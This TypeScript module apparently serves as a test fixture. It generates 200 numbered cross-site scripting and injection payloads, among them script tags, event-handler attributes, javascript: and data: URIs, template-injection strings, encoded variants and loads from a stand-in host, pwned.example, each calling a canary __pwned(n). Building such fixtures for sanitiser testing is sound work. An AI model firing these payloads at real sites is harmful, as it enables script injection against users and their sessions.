/** Where a payload that runs would go. */
export const HOST = 'pwned.example'

const MARKUP: readonly ((n: number) => string)[] = [
  (n) => `<img src=x onerror=__pwned(${n})>`,
  (n) => `<script>__pwned(${n})</script>`,
  (n) => `<script src=//${HOST}/${n}></script>`,
  (n) => `<svg onload=__pwned(${n})>`,
  (n) => `<svg/onload=__pwned(${n})//`,
  (n) => `<svg><animate onbegin=__pwned(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><script>__pwned(${n})</script></svg>`,
  (n) => `<details open ontoggle=__pwned(${n})>`,
  (n) => `<video src=x onerror=__pwned(${n})>`,
  (n) => `<audio src=x onerror=__pwned(${n})>`,
  (n) => `<input autofocus onfocus=__pwned(${n})>`,
  (n) => `<body onload=__pwned(${n})>`,
  (n) => `<iframe srcdoc="<script>parent.__pwned(${n})</script>"></iframe>`,
  (n) => `<iframe src=javascript:parent.__pwned(${n})></iframe>`,
  (n) => `<object data=javascript:__pwned(${n})></object>`,
  (n) => `<embed src=//${HOST}/${n}>`,
  (n) => `<a href=javascript:__pwned(${n}) autofocus>here</a>`,
  (n) => `<link rel=stylesheet href=//${HOST}/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//${HOST}/${n}">`,
  (n) => `<base href=//${HOST}/${n}/>`,
  (n) => `<form action=//${HOST}/${n}><button autofocus>here</button></form>`,
  (n) => `<style>@import'//${HOST}/${n}'</style>`,
  (n) => `<b style=background:url(//${HOST}/${n})>bold</b>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=__pwned(${n})>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=__pwned(${n})>">`,
]
/** What they would have to get out of. */
const BEHIND = ['', '">', "'>", '</script>', '</textarea></title>', '-->', ']]>']
const TEXT: readonly ((n: number) => string)[] = [
  (n) => `javascript:__pwned(${n})`,
  (n) => `JaVaScRiPt:__pwned(${n})`,
  (n) => `java\tscript:__pwned(${n})`,
  (n) => `javascript://%0a__pwned(${n})`,
  (n) => `vbscript:__pwned(${n})`,
  (n) => `data:text/html,<script>parent.__pwned(${n})</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<script>__pwned(${n})</script>`).toString('base64')}`,
  (n) => `https://${HOST}/${n}`,
  (n) => `//${HOST}/${n}`,
  (n) => `file:///etc/passwd?${n}`,
  (n) => `{{constructor.constructor('__pwned(${n})')()}}`,
  (n) => `\${__pwned(${n})}`,
  (n) => `#{__pwned(${n})}`,
  (n) => `<%= __pwned(${n}) %>`,
  (n) => `';__pwned(${n});'`,
  (n) => `";__pwned(${n});"`,
  (n) => `\`;__pwned(${n});\``,
  (n) => `\\u003cscript\\u003e__pwned(${n})`,
  (n) => `&lt;img src=x onerror=__pwned(${n})&gt;`,
  (n) => `&#60;img src=x onerror=__pwned(${n})&#62;`,
  (n) => `%3Cimg src=x onerror=__pwned(${n})%3E`,
  (n) => `\uff1cscript\uff1e__pwned(${n})`,
  (n) => `+ADw-script+AD4-__pwned(${n})`,
  (n) => `x" onfocus=__pwned(${n}) autofocus x="`,
  (n) => `x' onmouseover=__pwned(${n}) style='position:fixed;inset:0`,
]

/** 200 scripts, each with a number of its own. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP.flatMap((of) => BEHIND.map((behind) => (n: number) => behind + of(n))),
  ...TEXT,
].map((of, n) => of(n))

/** Short enough for a name. */
export const shortPayload = (n: number): string => `<img src=x onerror=__pwned(${n})>`
